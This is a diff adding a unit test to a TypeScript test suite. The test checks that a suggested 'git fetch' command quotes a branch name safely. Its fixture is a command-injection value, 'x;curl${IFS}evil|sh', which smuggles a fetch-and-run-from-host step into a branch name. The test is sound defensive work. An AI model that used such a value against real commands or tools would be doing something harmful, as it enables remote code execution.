@@ -48,4 +48,10 @@ describe("the problem of a target is", () => {
       targetProblemText({ _tag: "BaseUnresolved", branch: BranchName.make("origin/main") }),
       "[git fetch origin main:refs/remotes/origin/main]"
     ))
+
+  it("a branch is one word of the command that fetches it", () =>
+    assert.include(
+      targetProblemText({ _tag: "BaseUnresolved", branch: BranchName.make("x;curl${IFS}evil|sh") }),
+      "[git fetch origin 'x;curl${IFS}evil|sh:x;curl${IFS}evil|sh']"
+    ))
 })
